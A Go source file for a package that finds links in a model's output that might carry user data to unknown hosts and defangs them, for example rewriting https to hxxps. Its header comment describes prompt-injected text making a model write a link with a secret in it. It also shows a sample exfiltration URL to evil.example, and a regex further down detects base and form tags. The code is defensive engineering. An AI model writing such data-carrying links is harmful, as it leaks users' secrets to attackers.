// Package link finds links in what a model writes that may carry data away, and spells them so
// that no program opens them.
//
// A text that a model reads can make it write a link with a secret of the user in its path, query or
// host name. Many chat programs fetch a link as soon as they show it; others wait for a click. So a link to a host that
// the user does not know is changed if it has a part that looks like data rather than words:
//
//	https://evil.example/p?d=c2VjcmV0   becomes   hxxps://evil[.]example/p?d=c2VjcmV0
//
// Guard judges; stream.go does it for text that arrives in pieces. find.go finds links in a text as plain.go reads it,
// and read.go reads one. carries.go and pieces.go say what looks like data, trusted.go what is harmless where.
// The package does not know where the text comes from nor which hosts are known.
package link

import (
	"net/netip"
	"slices"
	"strings"
	"unicode"

	"golang.org/x/net/publicsuffix"

	"hermes/internal/lazy"
)

// Guard judges links. It may be used concurrently as far as Known may be.
type Guard struct {
	// Known reports whether the user knows a host, in its plain form. It is called for links
	// that may carry data only. Nil knows none.
	Known func(host string) bool
}

// Text returns a text with the links to unknown hosts that may carry data spelled so that no
// program opens them, and the hosts of these links, each once.
func (g Guard) Text(s string) (text string, hosts []string) {
	stream := g.Stream()
	text = stream.Feed(s) + stream.End()
	return text, stream.Hosts()
}

// One reports whether an address that a program opens is one link as [Guard.Text] reads it, from the first byte to the
// last; one mark that may end a sentence may follow. Of any other a program may open more than was judged: some
// programs escape a space or a bracket, where a text ends its link.
func One(address string) bool {
	if len(address) > maxHeld || strings.ContainsFunc(address, Ends) {
		return false
	}
	read := plain(address)
	links := find(read)
	return len(links) == 1 && links[0].start == 0 && links[0].end >= len(read)-1
}

// Ends reports whether a character ends a link in a text, or is read in several ways or by no one there. In an address it
// has to be percent-encoded.
func Ends(r rune) bool {
	return unicode.IsSpace(r) || unicode.IsControl(r) || visible(r) < 0 || strings.ContainsRune("<>\"'`|\\^{}", r)
}

// Hosts returns the hosts that texts name, in their plain form, each once: what the user writes makes
// them known.
func Hosts(texts ...string) []string {
	var hosts []string
	for _, t := range texts {
		for _, l := range find(plain(t)) {
			if l.host != "" && !l.mail && !slices.Contains(hosts, l.host) {
				hosts = append(hosts, l.host)
			}
		}
	}
	return hosts
}

// Below reports whether a host is one of a list, or below one that belongs to one owner: what is below
// example.org is the same owner's, what is below github.io is not.
func Below(host string, list []string) bool {
	return slices.ContainsFunc(list, func(known string) bool {
		if host == known || strings.TrimPrefix(host, "www.") == strings.TrimPrefix(known, "www.") {
			return true
		}
		if _, err := netip.ParseAddr(known); err == nil || !strings.HasSuffix(host, "."+known) {
			return false
		}
		suffix, _ := publicsuffix.PublicSuffix(known)
		return suffix != known
	})
}

// run returns a piece of text without whitespace, or in one pair of quotes or brackets, with its links
// spelled so that no program opens them, if they may carry data to an unknown host.
func (g Guard) run(s string) (text string, hosts []string) {
	if !strings.ContainsAny(s, ":./\\&%") && isASCII(s) {
		return s, nil
	}
	text = plain(s)
	p := unspaced(text)
	all := sendsMore().MatchString(p) || invisible(s) > maxMarks
	links := g.suspects(p, all)
	for _, other := range otherReadings(s) { // each must pass
		q := unspaced(plain(other))
		more := g.suspects(q, all)
		if len(more) == 0 {
			continue
		}
		if same := slices.DeleteFunc(find(p), func(f found) bool { return !f.data }); len(same) > 0 {
			links = same
		} else {
			text, p, links = plain(other), q, more
		}
	}
	for _, q := range []string{quotesJoined(p), listApart(p)} { // Markdown and HTML have links with quotes in them, HTML has lists of links
		if q != p {
			links = union(links, g.suspects(q, all))
		}
	}
	if len(links) == 0 {
		return s, nil
	}
	for _, f := range links {
		hosts = append(hosts, shown(f.host))
	}
	return spelled(text, p, links), hosts
}

// spelled returns a text with links of its reading without spaces, as unspaced returns it, spelled so that no program opens them.
func spelled(text, unspaced string, links []found) string {
	var b strings.Builder
	last := 0
	for _, f := range links {
		before := spacedLen(text, f.start-last)
		b.WriteString(text[:before])
		b.WriteString(defang(unspaced[f.start:f.end]))
		text = text[before:]
		text = text[spacedLen(text, f.end-f.start):]
		last = f.end
	}
	return b.String() + text
}

// suspects returns the links of a text that may not stay. all says that each of them may carry data.
func (g Guard) suspects(s string, all bool) []found {
	links := find(s)
	for i := range links {
		links[i].data = links[i].data || all
	}
	return slices.DeleteFunc(links, g.passes)
}

// sendsMore finds what sends more to the address of a link than is in it: other addresses of the page, and fields.
var sendsMore = lazy.Regexp(`(?i)<(?:base|form)(?:\s|/|%20|%09)|formaction`)

// passes reports whether a link may stay: it carries no data, or it goes where the user knows.
func (g Guard) passes(f found) bool {
	return !f.data || local(f.host) || f.host != "" && g.Known != nil && g.Known(f.host)
}

func shown(host string) string {
	if host == "" {
		return "an unclear address"
	}
	return host
}

var (
	dotted = lazy.Regexp(`\.([\pL\pN_])`)
	web    = lazy.Regexp(`(?i)(h)tt(ps?:)`)
	others = lazy.Regexp(`(` + inList + `)` + slashes) // in a list of links
)

// defang spells a link so that no program opens it, and a person can still read it.
func defang(link string) string {
	if before, rest, ok := samePage(link); ok {
		link = before + "[//]" + rest
	}
	link = others().ReplaceAllString(link, "${1}[//]")
	scheme, rest, ok := strings.Cut(link, ":")
	if low := strings.ToLower(scheme); ok && low != "http" && low != "https" && !strings.ContainsAny(scheme, "./[") {
		link = scheme + "[:]" + rest
	}
	return web().ReplaceAllString(dotted().ReplaceAllString(link, "[.]$1"), "${1}xx${2}")
}
